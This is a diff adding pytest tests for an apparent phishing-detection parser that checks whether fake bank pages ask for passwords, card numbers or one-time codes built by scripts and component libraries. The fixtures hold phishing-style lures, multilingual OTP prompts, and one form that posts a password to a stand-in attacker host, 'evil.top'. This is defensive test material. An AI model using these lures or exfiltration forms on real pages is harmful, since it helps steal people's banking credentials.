@@ -1,0 +1,102 @@
+"""Inputs for secrets that no markup holds: scripts, templates, data and component libraries make them."""
+
+import pytest
+
+from scamtriage.parse.html.forms.digits import takes_digits
+from tests.cost import least_cpu_s
+from tests.parse.html.page_facts import read
+
+PASSWORD = '{type:"password",placeholder:"Password"}'
+
+
+@pytest.mark.parametrize(
+    ("markup", "asks"),
+    [
+        (f'<script>React.createElement("div",null,React.createElement("input",{PASSWORD}))</script>', "password"),
+        (f'<script type=module>i("form",{{children:[(0,a.jsx)("input",{PASSWORD})]}})</script>', "password"),
+        ('<script>const f=()=>a("input",{type:"text",style:{top:1},placeholder:"Card number"})</script>', "card"),
+        ('<script type=text/babel>const L=()=>(<input onChange={e=>set(e.target.value)} type="password"/>)</script>', "password"),
+        ("<script type=text/x-template><form><input v-model=p type=password></form></script>", "password"),
+        (
+            "<script>customElements.define('x-l',class extends H{connectedCallback(){this.innerHTML=`<input type=password>`}})</script>",
+            "password",
+        ),
+        ('<script>Formio.createForm(f,{components:[{type:"password",key:"pw",label:"Online banking password"}]})</script>', "bank-login"),
+        ('<script type=application/json>{"fields":[{"name":"pw","type":"password"}]}</script>', "password"),
+        ('<script>Swal.fire({title:"KBank",input:"password"})</script>', "password"),
+        ('<script>send(prompt("Enter the OTP that we sent"))</script>', "otp"),
+        ("<ion-input label=Password type=password></ion-input>", "password"),
+        ("<sl-input label='Card number'></sl-input>", "card"),
+        ("<el-input v-model=p show-password></el-input>", "password"),
+        ("<otp-input length=6></otp-input>", "otp"),
+    ],
+)
+def test_what_scripts_and_component_libraries_ask_for_is_asked(markup: str, asks: str) -> None:
+    facts = read(f"<title>KBank</title><p>Welcome to the online service of the bank.</p>{markup}")
+    assert asks in facts.asks
+
+
+@pytest.mark.parametrize(
+    "markup",
+    [
+        '<script>React.createElement("input",{type:"search",placeholder:"Search"})</script>',
+        '<script>a("input",{type:"email",placeholder:"Your e-mail"})</script>',
+        '<script>open("input", {once: true, password: "never asked"})</script>',
+        '<pre>createElement("input",{type:"password"})</pre>',
+        '<script type=application/json>{"code":"<input type=password>"}</script>',
+        '<script>prompt("How many tickets?")</script>',
+        "<mat-form-field><mat-label>Password policy</mat-label></mat-form-field>",
+        "<password-strength-meter type=password></password-strength-meter>",
+    ],
+)
+def test_what_asks_for_no_secret_or_only_shows_code_asks_for_none(markup: str) -> None:
+    facts = read(f"<title>Garden club</title><p>Welcome to the club by the river, every Sunday.</p>{markup}")
+    assert facts.asks == ()
+
+
+def test_an_input_that_a_script_may_make_does_not_show_that_the_page_is_all_there() -> None:
+    shell = '<title>KBank</title><div id=app></div><script type=application/json>{"says":"%s","fields":[{"type":"password"}]}</script>'
+    facts = read(shell % "Your account was restricted, please confirm who you are within a day.")
+    assert (facts.asks, facts.text_from) == (("password",), "data")
+    assert "restricted" in facts.text
+
+
+@pytest.mark.parametrize(
+    "words",
+    [
+        "Enter the 6-digit number that was sent to your phone",
+        "กรุณากรอกรหัส 6 หลักที่ส่งไปยังโทรศัพท์ของท่าน",
+        "Vui lòng nhập mã gồm 6 chữ số đã gửi đến điện thoại",
+        "Masukkan kod 6 digit yang dihantar ke telefon anda",
+        "Masukkan kode 6 angka yang dikirim ke ponsel Anda",
+        "我们已向您的手机发送6位数字",
+        "スマートフォンに送信した6桁の数字を入力",
+        "휴대폰으로 보낸 6자리 숫자를 입력",
+        "បញ្ចូលកូដ ៦ ខ្ទង់ដែលបានផ្ញើ",
+    ],
+)
+def test_a_row_of_boxes_below_words_for_so_many_digits_takes_a_code(words: str) -> None:
+    boxes = "<input maxlength=1 inputmode=numeric>" * 6
+    assert read(f"<title>Bank</title><p>{words}</p><div>{boxes}</div>").asks == ("otp",)
+    assert read(f"<title>Bank</title><p>{words}</p><input name=c maxlength=6>").asks == ("otp",)
+    assert read(f"<title>Bank</title><p>{words}</p><input name=c maxlength=60>").asks in ((), ("phone",))
+
+
+@pytest.mark.parametrize(
+    "words", ["Enter your 6-digit postal code", "the last 4 digits of your card", "the 6-digit game number", "6位邀请码"]
+)
+def test_digits_of_something_else_are_no_code(words: str) -> None:
+    assert not takes_digits([words], sent=False)
+
+
+def test_a_form_that_htmx_sends_goes_where_that_says() -> None:
+    facts = read("<form action=/a hx-post=https://evil.top/p><input type=password></form>")
+    assert [(form.action_host, form.method) for form in facts.forms] == [("evil.top", "post")]
+
+
+@pytest.mark.parametrize(
+    "piece", ['{type:"password",', 'a("input",{', "<input {", "<x-input label=", '{"type":"password"}', "return <input type=password "]
+)
+def test_made_inputs_cost_a_page_little(piece: str) -> None:
+    page = f"<script>customElements.define;{piece * (400_000 // len(piece))}</script>"
+    assert least_cpu_s(lambda: read(page), within=1.0) < 1.0
